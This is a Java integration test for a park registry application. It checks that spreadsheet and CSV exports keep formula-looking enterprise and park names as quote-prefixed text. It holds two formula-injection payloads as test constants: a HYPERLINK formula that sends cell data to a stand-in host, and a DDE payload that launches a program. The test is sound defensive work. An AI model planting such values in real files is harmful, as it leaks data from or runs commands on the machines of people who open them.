package org.innopark.app.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.innopark.app.demo.DemoLoader;
import org.innopark.app.index.IndexExport;
import org.innopark.app.index.IndexReport;
import org.innopark.app.index.ParkIndex;
import org.innopark.app.points.InnovationPoints;
import org.innopark.app.points.PointsExport;
import org.innopark.app.registry.RegistryVersion;
import org.innopark.app.security.Accounts;
import org.innopark.app.security.ParkScope;
import org.innopark.app.support.DemoRegistry;
import org.innopark.app.support.H2IntegrationTest;
import org.innopark.engine.index.FrameworkLoader;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.RequestPostProcessor;
import org.springframework.transaction.PlatformTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;

/**
 * Every XLSX the platform writes (registry export, rejected-file copy, bank list, points ranking, ladder assessments,
 * composite index) keeps a name that reads as a formula as text: the cell is a string, quote-prefixed, with the name
 * unchanged. The park's and one enterprise's names are made formulas for the test and put back afterwards.
 */
@H2IntegrationTest
class SpreadsheetFormulaIntegrationTests {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"点击查看\")";

    static final String PARK_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";

    /** The rejected upload's name; its import record is removed afterwards (other tests count the history). */
    static final String REJECTED_FILE = "formula-cells-rejected.csv";

    static final RequestPostProcessor ADMIN = user("admin").roles("SYSTEM_ADMIN");

    @Autowired
    MockMvc mvc;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    DemoLoader loader;

    @Autowired
    Accounts accounts;

    @Autowired
    RegistryVersion version;

    @Autowired
    PlatformTransactionManager transactions;

    @Autowired
    InnovationPoints points;

    @Autowired
    ParkIndex index;

    String parkName;
    String firmName;
    boolean consentAdded;

    @BeforeEach
    void hostileNames() {
        DemoRegistry.ensureLoaded(jdbc, loader, accounts);
        parkName = jdbc.queryForObject("SELECT name FROM park WHERE code = 'CCHTZ'", String.class);
        firmName = jdbc.queryForObject(
                "SELECT name FROM enterprise WHERE credit_code = ?", String.class, DemoRegistry.YUANYU);
        jdbc.update("UPDATE park SET name = ? WHERE code = 'CCHTZ'", PARK_FORMULA);
        jdbc.update("UPDATE enterprise SET name = ? WHERE credit_code = ?", FORMULA, DemoRegistry.YUANYU);
        Long consents = jdbc.queryForObject(
                "SELECT COUNT(*) FROM points_consent WHERE credit_code = ? AND revoked_on IS NULL",
                Long.class,
                DemoRegistry.YUANYU);
        consentAdded = consents == 0;
        if (consentAdded) {
            jdbc.update("DELETE FROM points_consent WHERE credit_code = ?", DemoRegistry.YUANYU);
            jdbc.update(
                    "INSERT INTO points_consent (credit_code, consented_on, recorded_by) VALUES (?, CURRENT_DATE, 'test')",
                    DemoRegistry.YUANYU);
        }
        bump();
    }

    @AfterEach
    void putNamesBack() {
        jdbc.update("UPDATE park SET name = ? WHERE code = 'CCHTZ'", parkName);
        jdbc.update("UPDATE enterprise SET name = ? WHERE credit_code = ?", firmName, DemoRegistry.YUANYU);
        if (consentAdded) {
            jdbc.update("DELETE FROM points_consent WHERE credit_code = ?", DemoRegistry.YUANYU);
        }
        jdbc.update("DELETE FROM import_record WHERE file_name = ?", REJECTED_FILE);
        bump();
    }

    void bump() {
        new TransactionTemplate(transactions).executeWithoutResult(tx -> version.bump());
    }

    @Test
    void theRegistryExportKeepsAFormulaNameAsText() throws Exception {
        byte[] xlsx = mvc.perform(
                        get("/api/v1/exports/enterprise").param("park", "CCHTZ").with(ADMIN))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsByteArray();
        assertAllText(xlsx, FORMULA, 1);
    }

    @Test
    void theRejectedFileCopyKeepsFormulaCellsAsText() throws Exception {
        String csv = "统一社会信用代码,年度,从业人员(职工总数)\n" + FORMULA.replace("\"", "\"\"").transform(s -> "\"" + s + "\"")
                + ",2025,+5-3\n";
        byte[] xlsx = mvc.perform(multipart("/api/v1/imports")
                        .file(new MockMultipartFile(
                                "file", REJECTED_FILE, "text/csv", csv.getBytes(StandardCharsets.UTF_8)))
                        .param("table", "annual_report")
                        .param("annotated", "true")
                        .with(ADMIN)
                        .with(csrf()))
                .andExpect(status().isUnprocessableContent())
                .andReturn()
                .getResponse()
                .getContentAsByteArray();
        // In the copy of the data and among the errors (the value column).
        assertAllText(xlsx, FORMULA, 2);
        assertAllText(xlsx, "+5-3", 2);
    }

    @Test
    void theBankListKeepsFormulaNamesAsText() throws Exception {
        byte[] xlsx = mvc.perform(
                        get("/api/v1/parks/CCHTZ/points/bank-list.xlsx").with(ADMIN))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsByteArray();
        assertAllText(xlsx, FORMULA, 1);
        // The title begins with the park's name.
        assertThat(textCells(xlsx, s -> s.startsWith(PARK_FORMULA)))
                .singleElement()
                .satisfies(c -> assertThat(c.getCellStyle().getQuotePrefixed()).isTrue());
    }

    @Test
    void thePointsRankingKeepsAFormulaNameAsText() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        PointsExport.xlsx(
                points.ranking(ParkScope.ALL, "CCHTZ", null, InnovationPoints.scheme(null), null)
                        .orElseThrow(),
                out);
        assertAllText(out.toByteArray(), FORMULA, 1);
    }

    @Test
    void theLadderAssessmentsKeepAFormulaNameAsText() throws Exception {
        byte[] xlsx = mvc.perform(get("/api/v1/parks/CCHTZ/assessments.xlsx")
                        .param("scheme", "high-tech")
                        .with(ADMIN))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsByteArray();
        assertAllText(xlsx, FORMULA, 1);
    }

    @Test
    void theIndexWorkbookKeepsAFormulaParkNameAsText() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        IndexExport.xlsx(
                IndexReport.of(index.calculate(FrameworkLoader.BUILT_IN.get(0), null, null, 0), Locale.CHINA), out);
        assertAllText(out.toByteArray(), PARK_FORMULA, 1);
    }

    @Test
    void thePointsRankingCsvKeepsAFormulaNameAsText() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        PointsExport.csv(
                points.ranking(ParkScope.ALL, "CCHTZ", null, InnovationPoints.scheme(null), null)
                        .orElseThrow(),
                out);
        assertCsvGuarded(out.toString(StandardCharsets.UTF_8), FORMULA);
    }

    @Test
    void theIndexCsvKeepsAFormulaParkNameAsText() throws Exception {
        java.io.StringWriter out = new java.io.StringWriter();
        IndexExport.csv(
                IndexReport.of(index.calculate(FrameworkLoader.BUILT_IN.get(0), null, null, 0), Locale.CHINA), out);
        assertCsvGuarded(out.toString(), PARK_FORMULA);
    }

    /** The text is in the CSV only behind an apostrophe, never at the start of a field. */
    static void assertCsvGuarded(String csv, String text) throws IOException {
        List<org.apache.commons.csv.CSVRecord> records = org.apache.commons.csv.CSVFormat.DEFAULT
                .parse(new java.io.StringReader(csv))
                .getRecords();
        long guarded = 0;
        for (org.apache.commons.csv.CSVRecord r : records) {
            for (String v : r) {
                assertThat(v).as("a field that a spreadsheet would run").isNotEqualTo(text);
                if (v.equals("'" + text)) {
                    guarded++;
                }
            }
        }
        assertThat(guarded).as("fields holding " + text).isPositive();
    }

    /** Every cell holding the text (at least {@code atLeast}) is a quote-prefixed string, never a formula. */
    static void assertAllText(byte[] xlsx, String text, int atLeast) throws IOException {
        List<Cell> cells = textCells(xlsx, text::equals);
        assertThat(cells).as("cells holding " + text).hasSizeGreaterThanOrEqualTo(atLeast);
        for (Cell cell : cells) {
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(cell.getCellStyle().getQuotePrefixed())
                    .as(cell.getSheet().getSheetName() + "!" + cell.getAddress() + " quote-prefixed")
                    .isTrue();
        }
    }

    static List<Cell> textCells(byte[] xlsx, java.util.function.Predicate<String> which) throws IOException {
        List<Cell> found = new ArrayList<>();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as("no formula cell").isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING && which.test(cell.getStringCellValue())) {
                            found.add(cell);
                        }
                    }
                }
            }
        }
        return found;
    }
}
